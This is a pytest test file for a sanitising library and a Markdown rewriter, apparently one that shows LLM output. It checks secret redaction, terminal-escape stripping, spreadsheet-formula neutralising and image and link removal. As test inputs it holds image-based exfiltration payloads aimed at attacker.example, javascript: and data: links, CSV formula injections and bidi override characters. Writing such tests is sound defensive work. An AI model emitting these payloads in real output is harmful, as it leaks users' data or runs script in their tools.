"""The one sanitising path (lib/safety.py) and the one render rewrite (lib/present.safe_markdown):
valid Unicode, secret redaction, terminal-safe text, spreadsheet-safe cells, Markdown that
fetches and runs nothing."""

import json

import pytest
from markdown_it import MarkdownIt

from lib.present import safe_markdown
from lib.safety import (
    Redactor,
    SurrogateJoiner,
    clean_json,
    clean_text,
    csv_cell,
    decode_bytes,
    json_text,
    strip_credentials,
    terminal_text,
    url_secrets,
)


def test_lone_surrogates_and_nul_become_replacement_characters_and_pairs_are_joined():
    assert clean_text("a\ud83d\ude00b") == "a😀b"  # two halves that arrived apart make one emoji
    assert clean_text("stray \udc80 and \ud83d.") == "stray \ufffd and \ufffd."
    assert clean_text("nul\x00") == "nul\ufffd"
    assert clean_text("plain 中文") == "plain 中文"
    clean_text("x\ud800").encode("utf-8")  # storable and printable


def test_argv_bytes_that_were_not_utf8_become_replacement_characters():
    # Python decodes such argv bytes with surrogateescape: b"caf\xe9" -> "caf\udce9"
    assert clean_text(b"caf\xe9".decode("utf-8", "surrogateescape")) == "caf\ufffd"
    assert decode_bytes(b"\xef\xbb\xbfcaf\xe9 \xe4\xb8\xad") == "caf\ufffd 中"


def test_a_split_emoji_is_joined_across_chunks_and_a_dangling_half_is_replaced_at_the_end():
    joiner = SurrogateJoiner()
    assert [joiner.feed("Smile \ud83d"), joiner.feed("\ude00!"), joiner.feed("\ud83d")] == ["Smile ", "😀!", ""]
    assert joiner.flush() == "\ufffd"


def test_json_values_are_cleaned_keys_and_all():
    assert clean_json({"k\udc80": ["\ud83d", 3, {"x": "\x00"}]}) == {"k\ufffd": ["\ufffd", 3, {"x": "\ufffd"}]}


def test_url_credentials_are_found_and_stripped():
    url = "https://bob:s3cr%40t-pass@llm.example:8443/v1?key=AIzaSyQueryKey123"
    assert {"s3cr@t-pass", "AIzaSyQueryKey123"} <= set(url_secrets(url))
    assert strip_credentials(url) == "https://llm.example:8443/v1?key=AIzaSyQueryKey123"


def test_redactor_removes_known_secrets_and_authorization_values():
    redact = Redactor(["sk-live-1234567890", "short"])
    text = redact('bad key sk-live-1234567890; {"Authorization": "Bearer other-token-xyz"} short')
    assert "sk-live-1234567890" not in text and "other-token-xyz" not in text
    assert text.endswith("short")  # values under 8 characters are too common to replace


def test_terminal_text_drops_escape_sequences_but_keeps_lines():
    assert terminal_text("red \x1b[31mtext\x07\r\nnext\tcol") == "red [31mtext\nnext\tcol"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("＝1+1", "'＝1+1"),
        ("plain = fine", "plain = fine"),
        (-5, -5),
        (None, None),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, expected):
    assert csv_cell(value) == expected


def _tokens(markdown: str):
    # a browser's renderer has no nesting limit: read as deep as the tests go
    md = MarkdownIt("commonmark", {"maxNesting": 10_000}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    md.core.ruler.disable("text_join")
    stack, found = list(md.parse(markdown)), []
    while stack:
        token = stack.pop()
        found.append(token)
        stack += token.children or []
    return found


@pytest.mark.parametrize(
    "text",
    [
        "See ![chart](https://attacker.example/p.png?d=SECRET) now",
        '![t](<https://attacker.example/a b.png> "title")',
        "ref ![x][r]\n\n[r]: https://attacker.example/r.png",
        "![nested [brackets]](https://attacker.example/n.png)",
        "> quoted ![q](https://attacker.example/q.png)\n- item ![i](https://attacker.example/i.png)",
        "`unclosed ![x](https://attacker.example/x.png)",
        "| a | b |\n|---|---|\n| ![c](https://attacker.example/c.png) | x |",
        # deeper than the checking parser reads (20 levels): quotes, lists, emphasis, brackets
        "> " * 25 + "![deep](https://attacker.example/d.png) $5 and $10",
        "".join("  " * i + "- item\n" for i in range(25)) + "  " * 25 + "- ![l](https://attacker.example/l.png)",
        "_" * 40 + "a![e](https://attacker.example/e.png)" + "_" * 40,
        "[" * 60 + "![b](https://attacker.example/b.png)" + "]" * 60,
    ],
)
def test_no_image_survives_the_rewrite(text):
    safe = safe_markdown(text)
    assert not [t for t in _tokens(safe) if t.type == "image"], safe
    assert "attacker.example" in safe.replace("\\", "")  # the URL is still shown, as text


@pytest.mark.parametrize(
    "text",
    [
        "[run](javascript:alert(1))",
        "[d](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "[bad]: javascript:alert(1)\n\n[click][bad]",
        "[v](VBScript:msgbox)",
    ],
)
def test_javascript_and_data_links_become_text(text):
    hrefs = [t.attrs.get("href", "") for t in _tokens(safe_markdown(text)) if t.type == "link_open"]
    assert all(str(h).startswith(("http:", "https:", "mailto:")) for h in hrefs), hrefs


def test_dollars_are_escaped_outside_code_unless_maths_is_on():
    text = "It costs $5 and $10.\n\n`echo $HOME`\n\n```sh\nexport A=$B\n```"
    safe = safe_markdown(text)
    assert "\\$5 and \\$10" in safe and "`echo $HOME`" in safe and "export A=$B" in safe
    assert safe_markdown(text, maths=True) == text
    assert safe_markdown("already \\$5") == "already \\$5"


def test_ordinary_markdown_is_left_as_written():
    text = "# Title\n\n**bold** and [a link](https://example.com), a list:\n\n- one\n- two\n\n"
    text += "| a | b |\n|---|---|\n| 1 | 2 |"
    assert safe_markdown(text) == text


def test_database_passwords_are_hidden_before_the_host_and_in_the_query():
    from db.config import display_database_url, hide_database_secrets

    url = "postgresql+psycopg://alice:PW1secret@db.example/db?password=QUERYPW&sslpassword=SSLPW&sslmode=require"
    shown = display_database_url(url)
    assert "PW1secret" not in shown and "QUERYPW" not in shown and "SSLPW" not in shown
    assert "alice" in shown and "sslmode=require" in shown and "password=***" in shown
    assert hide_database_secrets('password "QUERYPW" was refused', url) == 'password "***" was refused'
    assert display_database_url("not a url") == "(unreadable database URL)"


def test_basic_credentials_and_bidi_overrides_are_removed():
    url = "http://admin:URLPASSWORD99@llm.example/v1"
    redact = Redactor(url_secrets(url))
    token = "YWRtaW46VVJMUEFTU1dPUkQ5OQ=="  # base64("admin:URLPASSWORD99")
    echoed = redact(f'{{"headers": {{"Authorization": "Basic {token}"}}}} and again {token}')
    assert "YWRtaW46VVJMUEFTU1dPUkQ5OQ" not in echoed and "URLPASSWORD99" not in echoed
    assert Redactor()("Proxy-Authorization: Basic dXNlcjpwYXNz") == "Proxy-Authorization: Basic [redacted]"
    assert terminal_text("abc\u202edcb\u2066x\u2069") == "abcdcbx"


def test_clean_json_refuses_a_value_nested_too_deep_without_recursing_for_ever():
    deep: object = "x"
    for _ in range(5000):
        deep = [deep]
    with pytest.raises(ValueError, match="nested more than"):
        clean_json(deep)
    assert clean_json([[["\ud800"]]]) == [[["\ufffd"]]]


@pytest.mark.parametrize(
    "text",
    [
        "[^a]: ![fn](https://attacker.example/f.png)\n\nsee [^a]",
        "[^m]: $\\frac{a}{b}$\n\nsee [^m]",
        "> [^q]: ![q](https://attacker.example/q.png)\n\nsee [^q]",
        "[^a]: ok\n\n    ![x](https://attacker.example/x.png) $x$\n\nsee [^a]",
    ],
)
def test_footnote_definitions_cannot_hide_images_or_maths(text):
    """GFM renders footnotes; CommonMark reads their definitions as link definitions and never
    looks inside: no definition is left for the renderer to make a footnote of."""
    import re

    safe = safe_markdown(text)
    assert not re.search(r"(?<!\\)\[\^[^\]\n]*\]:", safe), safe
    assert not [t for t in _tokens(safe) if t.type == "image"], safe
    code = {t.content for t in _tokens(safe) if t.type in ("code_block", "fence")}
    assert "$" not in "".join(t.content for t in _tokens(safe) if t.type == "text" and t.content not in code)


def test_a_long_unsafe_text_is_shown_plainly_and_fast_enough():
    from lib.present import MAX_REWRITE_CHARS

    text = "![a](" * (MAX_REWRITE_CHARS // 4) + "$"
    assert safe_markdown(text).startswith("```")


def test_a_key_echoed_url_encoded_or_json_escaped_is_redacted():
    key = "sk-AbC/dEf+Gh=ijkl0123456789"
    redact = Redactor([key])
    for echoed in ("key=sk-AbC%2FdEf%2BGh%3Dijkl0123456789&x=1", '{"key": "sk-AbC\\/dEf+Gh=ijkl0123456789"}'):
        text = redact(f"the provider said: {echoed} was refused")
        assert "ijkl0123456789" not in text and "[redacted]" in text, text


@pytest.mark.parametrize(
    "char", ["\x7f", "\x85", "\x9b", "\u061c", "\u200e", "\u2028", "\u2029", "\u202e", "\u2067", "\ud800"]
)
def test_json_text_escapes_what_a_terminal_acts_on_and_keeps_the_value(char):
    value = {"model": f"a{char}b", "list": [f"{char}中文"], "n": 1}
    text = json_text(value, indent=2)
    assert char not in text and f"\\u{ord(char):04x}" in text
    assert json.loads(text) == value
    assert "中文" in text  # other text is written as itself


def test_json_text_passes_options_through():
    assert json_text({"a": object()}, default=lambda o: "x") == '{"a": "x"}'


def test_json_text_escapes_every_format_character_of_this_python_and_keeps_the_value():
    import unicodedata

    hidden = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp")]
    value = ["x".join(hidden[i : i + 50]) for i in range(0, len(hidden), 50)]
    text = json_text(value)
    assert not any(char in text for char in hidden)
    assert json.loads(text) == value
    assert json_text("\U000e0041") == '"\\udb40\\udc41"'  # a tag character: an escaped surrogate pair


def test_terminal_text_drops_bidirectional_marks_and_spaces_line_separators():
    assert terminal_text("a\u200eb\u200fc\u061cd\u2028e\u2029f") == "abcd e f"
